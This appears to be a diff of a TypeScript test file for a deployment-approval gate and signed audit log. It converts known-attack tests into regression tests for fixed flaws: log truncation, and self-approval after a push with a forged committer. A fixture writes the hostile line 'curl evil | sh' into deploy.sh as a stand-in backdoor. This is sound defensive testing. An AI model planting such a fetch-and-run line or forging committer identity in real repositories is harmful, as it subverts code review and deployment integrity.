@@ -1,10 +1,11 @@
 import { generateKeyPairSync } from 'node:crypto';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { type AuditEntry, type EventDraft, sealSigned } from '../src/audit/entry.js';
+import { type AuditEntry, type Checkpoint, type EventDraft, sealSigned } from '../src/audit/entry.js';
 import { deploymentEvent } from '../src/audit/events.js';
 import { MemoryStore } from '../src/audit/memory-store.js';
 import { ed25519Signer, type Signer } from '../src/audit/signature.js';
 import { type AuditStore, recordAll } from '../src/audit/store.js';
+import { verifyLog } from '../src/audit/verify.js';
 import { trustedCheckpoint } from '../src/github/checkpoint-status.js';
 import { gateDeployment, recordDeployment } from '../src/github/evaluate.js';
 import { createGitHub } from '../src/github/octokit.js';
@@ -433,12 +434,11 @@ describe('new attacks on the App’s entries and the checkpoint statuses', () =>
     ).toBeUndefined();
   });
 
-  // Found: trustedCheckpoint skips a status whose entry is not in the log at hand. Truncate the log branch back to
-  // a gate-signed entry (dropping a rejection, an incident, a later decision): the genuine status naming the
-  // dropped entry is skipped in silence, and the older status is "the" checkpoint, so verify reports a match.
-  // (Also: README says "the gate applies the same rule (trustedCheckpoint)", but nothing in src/, app/ or
-  // action/ calls it: no code reads the statuses.)
-  it.fails('SUCCEEDS: a log truncated back to a gate-signed entry still "matches" its checkpoint statuses', async () => {
+  // Found: trustedCheckpoint skipped a status whose entry is not in the log at hand. Truncate the log branch back
+  // to a gate-signed entry (dropping a rejection, an incident, a later decision): the genuine status naming the
+  // dropped entry was skipped in silence, and the older status was "the" checkpoint, so verify reported a match.
+  // Now that status is believed, unverified, and the truncated log does not reach it.
+  it('a log truncated back to a gate-signed entry no longer "matches": the status past its end is the checkpoint', async () => {
     const entries = await checkpointLog();
     const [, two, three] = entries as [AuditEntry, AuditEntry, AuditEntry];
     const truncatedTo = [entries[0]!, two]; // the log branch force-pushed back: entry 3 is gone
@@ -447,25 +447,52 @@ describe('new attacks on the App’s entries and the checkpoint statuses', () =>
       entryAt: (seq) => truncatedTo[seq - 1],
       trusted: GATE_KEYS,
     });
-    // What should happen: a status naming an entry past the log's end is at least reported, never skipped.
-    expect(believed).toBeUndefined();
+    expect(believed?.checkpoint).toEqual({ seq: 3, hash: three.hash });
+    expect(believed?.why).toMatch(
+      /^names entry 3, past the end of the log at hand .*truncated, or the status is forged$/,
+    );
+    const store = new MemoryStore();
+    let head: Checkpoint | undefined;
+    for (const entry of truncatedTo) head = await store.append(entry, head);
+    const verified = await verifyLog(store.lines(), believed!.checkpoint);
+    expect(verified.ok).toBe(false);
   });
 });
 
 describe('new attacks on approvals', () => {
-  // Found (documented in README's "What it relies on"): GitHub's API does not say who pushed an ordinary commit,
-  // so the gate infers the last pusher from the head's committer, which git lets the pusher write. Mallory pushes
-  // the backdoor onto Alice's pull request as "Alice" (author and committer), then approves it herself.
-  it.fails('SUCCEEDS: pushing onto someone else’s pull request with a forged committer, then approving it', async () => {
+  // Found: GitHub's commits do not say who pushed them, and the gate inferred the last pusher from the head's
+  // committer, which git lets the pusher write. Mallory pushed the backdoor onto Alice's pull request as "Alice"
+  // (author and committer), then approved it herself. The pusher now comes from GitHub's repository activity.
+  it('pushing onto someone else’s pull request with a forged committer, then approving it', async () => {
     const pr = repo.pullRequest({
       number: 40,
       author: 'alice',
       change: (f) => ({ ...f, 'deploy.sh': 'curl evil | sh\n' }),
       // The final head is Mallory's push; git says alice wrote and committed it (the fake's default: the author).
       approvers: ['mallory'],
+      pushedBy: 'mallory',
     });
     const decision = await gate(pr.mergeCommit!);
     expect(decision.approved).toBe(false);
+    expect(decision.verdict!.pullRequests[0]!.approval.ignored).toContainEqual({
+      login: 'mallory',
+      reason: `pushed the final head ${pr.head.slice(0, 7)} (GitHub's repository activity): GitHub does not count an approval by whoever pushed last`,
+    });
+  });
+
+  it('a pull request whose last push GitHub’s activity does not record: who may not approve is unknown, rejected', async () => {
+    const pr = repo.pullRequest({
+      number: 42,
+      author: 'alice',
+      change: (f) => ({ ...f, 'deploy.sh': 'echo ok\n' }),
+      approvers: ['bob'],
+      pushedBy: null,
+    });
+    const decision = await gate(pr.mergeCommit!);
+    expect(decision.approved).toBe(false);
+    expect(decision.reason).toMatch(
+      /who pushed the final head [0-9a-f]{7} of #42, who may not approve it, is unknown/,
+    );
   });
 
   it('a reviewer who approved, was dismissed, and approves again on the final head counts once, as on GitHub', async () => {
